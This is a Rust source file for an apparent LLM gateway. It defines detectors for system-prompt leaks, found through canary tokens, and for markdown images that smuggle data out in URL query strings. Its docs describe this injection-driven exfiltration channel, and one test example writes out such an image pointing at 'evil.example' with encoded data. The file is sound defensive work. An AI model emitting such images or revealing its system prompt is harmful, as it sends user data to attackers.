//! Fixed formats of LLM output threats, scanned like every other pattern so that streamed
//! responses are checked with the same hold-back as personal data: a value split across events
//! is still caught before any of it is released.

use rampart_core::{DataClass, Severity};

use crate::detector::Detector;

/// The LLM output detectors.
pub static DETECTORS: &[Detector] = &[
    Detector::base(
        "canary",
        DataClass::SystemPromptLeak,
        "Canary token",
        r"rampart-canary-[0-9a-f]{16}",
        1.0,
        Severity::High,
    )
    .docs("A canary token the gateway inserted into a system prompt (`llm.systemPromptLeak.canary`): a response that carries one has reproduced the system prompt (OWASP LLM07).")
    .examples(
        &["the marker is rampart-canary-0123456789abcdef."],
        &["rampart-canary-xyz", "rampart-canary-0123"],
    ),
    Detector::base(
        "markdown_image_exfil",
        DataClass::UnsafeOutput,
        "Markdown image carrying data",
        r"!\[[^\]\n]{0,200}\]\([ \t]{0,4}<?https?://[^ \t\r\n)?#<>]{1,600}[?#]",
        1.0,
        Severity::High,
    )
    .docs("A markdown image whose URL carries a query string or fragment: a chat client fetches it without a click, so data an injection put in the URL leaves at once (OWASP LLM05). The match ends at the `?` or `#`: removing it breaks the image, so nothing is fetched. Links outside an allowlist, HTML and script are found by the output inspection of whole responses.")
    .examples(
        &["Done! ![x](https://evil.example/log?q=c2VjcmV0)"],
        &["![logo](https://cdn.example.com/logo.png)", "[docs](https://example.com/?q=1)"],
    ),
];
